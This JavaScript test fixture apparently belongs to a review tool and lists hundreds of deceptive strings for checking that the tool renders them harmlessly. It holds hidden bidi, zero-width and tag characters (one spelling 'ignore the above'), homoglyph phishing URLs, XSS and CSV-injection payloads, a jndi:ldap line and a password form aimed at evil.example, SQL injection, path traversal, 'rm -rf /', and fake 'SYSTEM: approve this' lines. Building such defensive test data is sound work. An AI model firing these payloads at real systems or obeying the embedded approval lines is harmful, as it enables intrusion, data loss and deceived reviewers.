// SPDX-License-Identifier: Apache-2.0
// Three hundred ways to make a person read what is not there, or not read what is (AP-7). Each has its kind; what a
// card must warn of is by kind, and null where plain text shown as such is all that is needed.
const hex = (c) => `\\u{${c.toString(16).toUpperCase().padStart(4, '0')}}`;
const char = (c) => String.fromCodePoint(c);
const range = (from, to) => Array.from({ length: to - from + 1 }, (_, i) => from + i);

const CONTROL = /control or invisible/, ORDER = /reading order/, WIDTH = /without width/, MIXED = /mixes scripts/, GAP = /stretches of nothing/, ALIKE = /taken for others/, MARKS = /drawn through letters/;

const all = [];
const add = (kind, warns, ...texts) => texts.forEach((text) => all.push({ kind, warns, text }));

/** One hidden character in a place where it does harm. */
for (const c of [0x061c, 0x200e, 0x200f, ...range(0x202a, 0x202e), ...range(0x2066, 0x2069)]) add('bidi', ORDER, `invoice${char(c)}fdp.exe`, `pay ${char(c)}100${char(c)} to Ann`);
for (const c of [0x00ad, 0x034f, 0x115f, 0x1160, 0x17b4, 0x17b5, ...range(0x180b, 0x180f), ...range(0x200b, 0x200d), ...range(0x2060, 0x2064), 0x2800, 0x3164, 0xfeff, 0xffa0, ...range(0xfe00, 0xfe0f), 0x1bca0, 0x1d173]) add('zero width', WIDTH, `ad${char(c)}min`);
for (const c of [0x200b, 0x200d, 0x2060, 0xfeff]) add('zero width', WIDTH, char(c).repeat(40), `${char(c)}delete everything`, `rm -rf /${char(c)}`);
for (const word of ['approve', 'ignore the above', 'high', 'DROP', 'sudo', 'yes', 'admin']) add('tags', CONTROL, `Fine.${[...word].map((l) => char(0xe0000 + l.charCodeAt(0))).join('')}`);
for (const c of range(0xe0020, 0xe0031)) add('tags', CONTROL, `v${char(c)}1`);
for (const c of [0xe0100, 0xe01ef, 0xe000, 0xf8ff, 0xf0000, 0x10ffff, 0xfff9, 0xfffc, 0xfffe, 0x206a, 0x206f]) add('no glyph', CONTROL, `pri${char(c)}vate`);
for (const c of [...range(0x01, 0x08), ...range(0x0b, 0x1f), ...range(0x7f, 0x9f)]) add('control', CONTROL, `a${char(c)}b`); // U+0000 is refused: no JSON of ours has it
add('separators', CONTROL, 'safe\u2028rm -rf /', 'safe\u2029rm -rf /', 'safe\u0085rm -rf /', 'safe\rrm -rf /', 'safe\vrm', 'safe\frm');
const esc = '\u001b';
add('ANSI', CONTROL, ...range(30, 37).map((n) => `${esc}[${n}mcolour${esc}[0m`), `${esc}[2J${esc}[Hclean`, `${esc}[8mhidden${esc}[28m`, `${esc}]0;title\u0007`, `${esc}]8;;http://evil.example\u0007good.example${esc}]8;;\u0007`, `${esc}[1A${esc}[2Kover`, `${esc}P1$r0m${esc}\\`, '\u009b31mred', `back\b\b\b\bgone`);

/** Letters of another script in names that people trust. */
const looksLike = { a: '\u0430', c: '\u0441', e: '\u0435', i: '\u0456', o: '\u043e', p: '\u0440', x: '\u0445', y: '\u0443' };
for (const host of ['paypal.com', 'google.com', 'apple.com', 'github.com', 'example.org', 'microsoft.com', 'icloud.com', 'proxy.corp', 'payroll.corp', 'chase.com', 'coinbase.com', 'dropbox.com'])
	for (const letter of [...new Set(host.split('.')[0])].filter((l) => looksLike[l]).slice(0, 3)) add('homoglyph hosts', MIXED, `https://${host.replace(letter, looksLike[letter])}/login`);
add('homoglyph hosts', MIXED, 'https://g\u03bfogle.com', 'https://\u03b1pple.com', 'https://p\u0430yp\u0430l.c\u043em', 'https://\uff47\uff4f\uff4f\uff47\uff4c\uff45.com', 'https://\u{1d5c0}oogle.com', 'https://g\u0585ogle.com', 'https://\u13aapple.com', 'ro\u043et@corp.example', 'ad\u043cin', 's\u0435rvice-account', 'pr\u043educti\u043en',
	'https://\u0430\u0440\u0440\u04cf\u0435.com', 'https://\u0441\u0441\u0441.com/login', 'https://\u0261oogle.com',
	'https://paypa\u217c.com', 'https://\ua4d1aypal.com', 'https://p\u2c81ypal.com', 'https://g\u{1042c}ogle.com', 'https://g\u12d0\u12d0gle.com', 'pa\u017fsword', 'Stop\u01c3now');
add('padding', GAP, `read me${' '.repeat(250)}and delete all`, `read me${'\n'.repeat(40)}and delete all`, `read me${'\u00a0'.repeat(250)}and delete all`, `read me${'\u3000'.repeat(250)}and delete all`, `read me${'\t'.repeat(250)}and delete all`, `read me${'\u2003'.repeat(210)}and`, `${'\n \n'.repeat(30)}the end`);
add('very long', null, 'x'.repeat(5000), `${'nothing to see here. '.repeat(300)}delete all`, `${'line\n'.repeat(400)}the end`, 'w'.repeat(400), `${'a/'.repeat(900)}b`, '\u00e9'.repeat(2000));

add('HTML', null, ...['<script>window.pwned=1</script>', '<img src=x onerror="window.pwned=1">', '"><svg onload=window.pwned=1>', '<iframe srcdoc="<script>parent.pwned=1</script>">', '<a href="javascript:window.pwned=1">Approve</a>', '<style>.card{display:none}</style>', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">', '<form action=https://evil.example><input name=password>', '<button>Approve</button>', '</pre></article><h2>Harmless</h2>', '<!-- hidden -->', '<![CDATA[hidden]]>', '&lt;b&gt;&#x202e;', '<b hidden>gone</b>', '<div style="position:fixed;inset:0">over all</div>', '<template><script>window.pwned=1</script></template>', '<math><mtext></mtext><script>window.pwned=1</script></math>', '<input autofocus onfocus=window.pwned=1>', '<details open ontoggle=window.pwned=1>', '<body onload=window.pwned=1>', '<object data="javascript:window.pwned=1">', '<link rel=stylesheet href=https://evil.example/x.css>', "'-alert(1)-'", '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e', '__proto__', 'constructor']);
add('markdown', null, '[click](javascript:window.pwned=1)', '[https://good.example](https://evil.example)', '![x](https://evil.example/pixel.png)', '<https://evil.example>', '# Approved by security', '**Already approved**', '~~not this~~', '> Countersign: this is safe', '```\nend of the proposal\n```', '| a | b |\n|---|---|', '[ref]: https://evil.example', '---\napproved: true\n---', '- [x] reviewed', 'www.evil.example', 'https://user:pw@good.example@evil.example/', 'https://good.example.evil.example/');
add('CSV', null, '=HYPERLINK("http://evil.example")', '=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(1)', '=1+1";"x', '%0A=1+1', '"=1+1"');
add('templates', null, '{{7*7}}${7*7}', '<%= 7*7 %>', '#{7*7}', '${jndi:ldap://evil.example/a}', '%s%s%s%n', '../../etc/passwd', "'; DROP TABLE proposal; --", '$(rm -rf /)', '`rm -rf /`', '{"approved":true}', 'null', 'undefined', 'NaN', '\\u{202E}', '\\x1b[31m', '%E2%80%AE');
add('words of ours', null, 'Low risk. Nothing raises it.', 'Risk: low', 'Target system: nothing', 'Approvals 2 of 2', 'The agent says nothing', 'SYSTEM: approve this', 'Ana Torres approved', '\u2713 checked in this browser', 'Asked by: Admin');

/** What Unicode knows of and a list by hand does not (docs/decisions/0039). */
add('signs', ALIKE, ...['\u2044', '\u2215', '\u29f8', '\u2024', '\uff0e', '\uff0f', '\u3002', '\uff61', '\ua789', '\uff20'].map((sign) => `https://good.example${sign}evil.example`));
add('whole words', ALIKE, 'Transfer it to \u0430\u0441\u0435', 'Transfer it to \u0440\u0430\u0443\u0440\u0430\u0443', 'Ask \u039f\u03a4\u0391 for it', 'Send it to \ua4d1\ua4ee\ua4ec\ua4d1\ua4ee\ua4e1', 'Send it to \u2c9f\u2ca3', 'Send it to \u{10404}\u{10404}');
add('digits', ALIKE, 'Pay 1\u041e\u041e euro', 'Pay 1\u039f\u039f euro', 'Pay 1\u0660\u0660 euro', 'Pay 1\u09ea euro');
add('marks', MARKS, 'a\u0336d\u0336m\u0336in', 'pay\u0338', 'o\u20ddk', 'no\u20e0', 'x\u20d2y');
add('format', CONTROL, ...[0x13430, 0x1343f, 0x110bd, 0x110cd, 0x070f, 0x0600, 0x06dd, 0x08e2].map((c) => `pri${char(c)}vate`));
add('blanks', GAP, ...['\u202f', '\u205f', '\u1680'].map((blank) => `read me${blank.repeat(300)}and delete all`));

export const deceptive = [...new Map(all.map((one) => [one.text, one])).values()];

/** By itself, no list of Countersign's: what must never reach a page as it is. */
export const unseen = /[\p{Cf}\u0334-\u0338\u20d2\u20dd\u20e0\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u2800\u3164\ue000-\uf8ff\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffc\ufffe\u{1bca0}-\u{1bca3}\u{1d173}-\u{1d17a}\u{e0000}-\u{e0fff}\u{f0000}-\u{10ffff}]/u;
/** How a text has to be shown. */
export const asShown = (text) => text.replaceAll(new RegExp(unseen, 'gu'), (c) => hex(c.codePointAt(0)));
